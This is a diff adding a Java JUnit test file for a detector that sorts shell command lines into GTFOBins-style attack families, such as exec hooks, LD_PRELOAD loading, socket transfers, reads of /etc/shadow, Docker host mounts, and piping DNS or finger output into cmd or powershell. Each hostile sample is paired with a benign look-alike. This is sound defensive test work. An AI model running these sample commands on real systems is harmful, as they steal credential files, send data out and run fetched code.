@@ -1,0 +1,95 @@
+package dev.vigil.analyze.reading;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.vigil.analyze.reading.Behaviours.Family;
+import org.junit.jupiter.api.Test;
+
+/** The GTFOBins capability families, from the function pages' descriptions (own examples). */
+class CapabilitiesTest {
+    private static boolean shows(Family f, String line) {
+        return Behaviours.shows(f, line, false);
+    }
+
+    @Test
+    void aHelperSlotFilledWithAForeignCommandIsAHook() {
+        assertThat(shows(Family.EXEC_HOOK, "tar xf a.tar --to-command='/tmp/t.sh'")).isTrue();
+        assertThat(shows(Family.EXEC_HOOK, "GIT_SSH_COMMAND='nc 192.0.2.1 80 #' git fetch")).isTrue();
+        assertThat(shows(Family.EXEC_HOOK, "sudo PAGER='./p' man ls")).isTrue();
+        assertThat(shows(Family.EXEC_HOOK, "git config core.fsmonitor '/var/tmp/.m'")).isTrue();
+        assertThat(shows(Family.EXEC_HOOK, "git -c alias.x='!/tmp/y' x")).isTrue();
+        assertThat(shows(Family.EXEC_HOOK, "run-parts --regex '^ba' /bin")).isTrue();
+        assertThat(shows(Family.EXEC_HOOK, "printf 'syscmd(id)' | m4")).isTrue();
+        // the same slots with the administrator's own programs
+        assertThat(shows(Family.EXEC_HOOK, "tar --use-compress-program='zstd -T0' -cf a.tar.zst dir")).isFalse();
+        assertThat(shows(Family.EXEC_HOOK, "GIT_SSH_COMMAND='ssh -i ~/.ssh/deploy_key' git pull")).isFalse();
+        assertThat(shows(Family.EXEC_HOOK, "git -c alias.lg='log --oneline' lg")).isFalse();
+        assertThat(shows(Family.EXEC_HOOK, "run-parts --test /etc/cron.daily")).isFalse();
+        assertThat(shows(Family.EXEC_HOOK, "printf 'define(x, 1)x' | m4")).isFalse();
+    }
+
+    @Test
+    void librariesAreJudgedByWhereTheyComeFrom() {
+        assertThat(shows(Family.LIBRARY_LOAD, "LD_PRELOAD=/tmp/.l/x.so sudo -l")).isTrue();
+        assertThat(shows(Family.LIBRARY_LOAD, "ruby -e 'require \"fiddle\"; Fiddle.dlopen(\"/tmp/r.so\")'")).isTrue();
+        assertThat(shows(Family.LIBRARY_LOAD, "LD_PRELOAD=./build/libfaketime.so ./run-tests")).isFalse();
+        assertThat(shows(Family.LIBRARY_LOAD, "openssl req -engine pkcs11 -new -key id")).isFalse();
+    }
+
+    @Test
+    void transfersNeedAFileAndAnOddChannel() {
+        assertThat(shows(Family.SOCKET_TRANSFER, "ncat 192.0.2.8 9000 < /etc/hostname")).isTrue();
+        assertThat(shows(Family.SOCKET_TRANSFER, "lwp-request file:///etc/issue")).isTrue();
+        assertThat(shows(Family.SOCKET_TRANSFER, "bash -c 'exec 3</dev/tcp/192.0.2.3/81; cat <&3 > /tmp/got'")).isTrue();
+        assertThat(shows(Family.SOCKET_TRANSFER, "python3 -m http.server --bind 0.0.0.0 8000")).isTrue();
+        assertThat(shows(Family.SOCKET_TRANSFER, "python3 -m http.server --bind 127.0.0.1 8000")).isFalse();
+        assertThat(shows(Family.SOCKET_TRANSFER, "echo > /dev/tcp/db01/5432 && echo open")).isFalse();
+        assertThat(shows(Family.SOCKET_TRANSFER, "nc -l 9000 > /dev/null")).isFalse();
+    }
+
+    @Test
+    void codeOpeningFilesCountsOnlyWhenItIsCode() {
+        assertThat(shows(Family.FILE_BY_CODE, "lua -e 'local f = io.open(\"/etc/shadow\") print(f:read(\"a\"))'")).isTrue();
+        assertThat(shows(Family.FILE_BY_CODE, "gawk -v x=1 'BEGIN { while ((getline l < \"/etc/gshadow\") > 0) print l }'")).isTrue();
+        assertThat(shows(Family.FILE_BY_CODE, "make --eval='$(file >/tmp/w,x)' -n")).isTrue();
+        assertThat(shows(Family.FILE_BY_CODE, "python3 read_config.py --open settings.yaml")).isFalse();
+        assertThat(shows(Family.FILE_BY_CODE, "awk -f report.awk data.csv")).isFalse();
+        assertThat(shows(Family.FILE_BY_CODE, "python -c 'import sys; print(sum(map(int, sys.stdin.readlines())))'")).isFalse();
+    }
+
+    @Test
+    void containersReachingTheHostAndRoundTripsAreSeen() {
+        assertThat(shows(Family.HOST_ESCAPE, "docker run -it --volume=/:/r ubuntu")).isTrue();
+        assertThat(shows(Family.HOST_ESCAPE, "sudo capsh --")).isTrue();
+        assertThat(shows(Family.HOST_ESCAPE, "docker run -v \"$PWD\":/src -w /src golang go build")).isFalse();
+        assertThat(shows(Family.ENCODE_ROUND_TRIP, "gzip -c /etc/shadow | gunzip")).isTrue();
+        assertThat(shows(Family.ENCODE_ROUND_TRIP, "gzip -c big.log | ssh backup 'cat > big.log.gz'")).isFalse();
+    }
+
+    @Test
+    void windowsLinesAreReadForTheUnixAndSshProgramsTheyRun() {
+        assertThat(Behaviours.shows(Family.SOCKET_TRANSFER, "bash.exe -c 'cat notes.db > /dev/tcp/192.0.2.9/8080'", true)).isTrue();
+        assertThat(Behaviours.shows(Family.EXEC_HOOK, "ssh -o ProxyCommand=\"C:\\Tools\\notepad.exe\" jump", true)).isTrue();
+        assertThat(Behaviours.shows(Family.EXEC_HOOK, "ssh -o ProxyCommand=\"ssh -W %h:%p bastion\" db01", true)).isFalse();
+        assertThat(Behaviours.shows(Family.EXEC_HOOK, "scp.exe -S C:\\Tools\\run.exe a.txt host:", true)).isTrue();
+        assertThat(Behaviours.shows(Family.FETCH_TO_SHELL, "finger loader@192.0.2.77 | more +2 | cmd", true)).isTrue();
+        assertThat(Behaviours.shows(Family.FETCH_TO_SHELL, "finger alice@example.org | more", true)).isFalse();
+        assertThat(Behaviours.shows(Family.FETCH_TO_SHELL, "nslookup -q=txt x.example.net | findstr MZ | powershell -", true)).isTrue();
+        assertThat(Behaviours.shows(Family.FETCH_TO_SHELL, "curl -s https://example.org/a.json | python3 -m json.tool", false)).isFalse();
+        assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "start ms-appinstaller:?source=https://198.51.100.9/app.msix", true)).isTrue();
+        assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "tool.exe /update /uhttps://198.51.100.9/u.bin", true)).isTrue();
+        assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "start ms-settings:windowsupdate", true)).isFalse();
+    }
+
+    @Test
+    void longHostileLinesStayLinear() {
+        StringBuilder s = new StringBuilder("git -c ");
+        for (int i = 0; i < 4000; i++) {
+            s.append("core.pager=| -o ProxyCommand=( '\"$(");
+        }
+        for (Family f : Family.values()) {
+            Behaviours.shows(f, s.toString(), false); // must return, whatever it finds
+        }
+        assertThat(Behaviours.shows(Family.SOCKET_TRANSFER, s.toString(), false)).isFalse();
+    }
+}
